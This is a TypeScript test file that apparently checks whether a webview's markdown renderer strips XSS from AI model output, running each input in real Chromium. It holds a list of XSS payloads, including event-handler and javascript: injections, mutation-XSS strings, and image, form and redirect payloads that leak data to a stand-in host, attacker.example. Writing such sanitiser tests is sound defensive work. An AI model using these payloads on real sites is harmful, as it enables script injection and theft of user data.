// Markdown/XSS in model output: the webview's real renderMarkdown (marked + DOMPurify),
// bundled with esbuild and run in real Chromium. A payload "gets through" when script runs
// (it sets window.__xss), or the rendered DOM keeps an event handler, a javascript:/data:
// link, a remote image, an iframe/form/object, or a style element.
import * as esbuild from 'esbuild';
import * as fs from 'fs';
import * as path from 'path';
import type { Browser, Page } from 'playwright-core';
import { CHROMIUM, launchBrowser } from '../support/browser';
import { requirePart } from '../support/tierGate';
import { attack } from './tally';

const REPO = path.resolve(__dirname, '../../..');

const payloads = [
	'<script>window.__xss=1</script>',
	'<img src=x onerror="window.__xss=1">',
	'<svg onload="window.__xss=1"></svg>',
	'<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
	'[click](javascript:window.__xss=1)',
	'[click](JaVaScRiPt:window.__xss=1)',
	'[click](&#106;avascript:window.__xss=1)',
	'[x](data:text/html,<script>alert(1)</script>)',
	'![track](https://attacker.example/leak?secret=CANARY)',
	'<a href="javascript:window.__xss=1">a</a>',
	'<details open ontoggle="window.__xss=1">x</details>',
	'<form action="https://attacker.example"><input name=q></form>',
	'<object data="javascript:window.__xss=1"></object>',
	'<embed src="javascript:window.__xss=1">',
	'<style>body{background:url(https://attacker.example/x)}</style>',
	'<div style="background:url(https://attacker.example/x)">s</div>',
	'<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
	'<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
	'```html\n<script>window.__xss=1</script>\n```',
	'<a href="https://ok.example" onclick="window.__xss=1">ok</a>',
	'<base href="https://attacker.example/">',
	'<meta http-equiv="refresh" content="0;url=https://attacker.example">',
	'<link rel=stylesheet href="https://attacker.example/x.css">',
	'<video><source onerror="window.__xss=1"></video>',
	'<body onload="window.__xss=1">',
	'<input autofocus onfocus="window.__xss=1">',
	'<a href="vbscript:msgbox(1)">v</a>',
	'<img src="data:image/svg+xml,<svg onload=alert(1)>">',
];

// Runs in the page (plain JS: the test tsconfig has no DOM types).
const PROBE = `async text => {
	window.__xss = undefined;
	const out = document.getElementById('out');
	out.innerHTML = window.keelMarkdown.renderMarkdown(text);
	out.querySelectorAll('details').forEach(d => (d.open = !d.open));
	await new Promise(resolve => setTimeout(resolve, 50));
	const bad = [];
	if (window.__xss) bad.push('script ran');
	for (const el of out.querySelectorAll('*')) {
		for (const attr of el.attributes) {
			if (/^on/i.test(attr.name)) bad.push(el.tagName + ' ' + attr.name);
			if (/^(href|src|action|data|formaction|xlink:href)$/i.test(attr.name) && /^\\s*(javascript|vbscript|data:text)/i.test(attr.value)) bad.push(el.tagName + ' ' + attr.name + '=' + attr.value);
			if (attr.name === 'src' && /^https?:/i.test(attr.value)) bad.push('remote ' + el.tagName + ' src');
			if (attr.name === 'style') bad.push('style attribute');
		}
		if (/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|STYLE|BASE|META|LINK|INPUT)$/.test(el.tagName)) bad.push('<' + el.tagName.toLowerCase() + '>');
	}
	return bad.join(', ');
}`;

describe('security: markdown / XSS in model output (real Chromium)', function () {
	let browser: Browser | undefined;
	let page: Page;

	before(async function () {
		requirePart(
			this,
			'Chromium',
			fs.existsSync(CHROMIUM) ? undefined : `${CHROMIUM} does not exist (set KEEL_CHROMIUM or install chromium)`,
		);
		const bundle = await esbuild.build({
			entryPoints: [path.join(REPO, 'src/webview/content/markdown.ts')],
			bundle: true,
			format: 'iife',
			globalName: 'keelMarkdown',
			platform: 'browser',
			write: false,
		});
		browser = await launchBrowser();
		page = await browser.newPage();
		await page.setContent('<!doctype html><html><body><div id="out"></div></body></html>');
		await page.addScriptTag({ content: bundle.outputFiles[0].text });
	});
	after(async () => browser?.close());

	it('sanity: the probe catches what an unsanitised render would let through', async () => {
		const raw = (await page.evaluate(
			`(${PROBE.replace('window.keelMarkdown.renderMarkdown(text)', 'text')})(${JSON.stringify('<img src=x onerror="window.__xss=1">')})`,
		)) as string;
		if (!/script ran|onerror/.test(raw)) {
			throw new Error(`probe is blind: "${raw}"`);
		}
	});

	for (const payload of payloads) {
		it(`neutralises ${JSON.stringify(payload).slice(0, 60)}`, () =>
			attack(`markdown ${JSON.stringify(payload).slice(0, 50)}`, async () => {
				const found = (await page.evaluate(`(${PROBE})(${JSON.stringify(payload)})`)) as string;
				return found || undefined;
			}));
	}
});
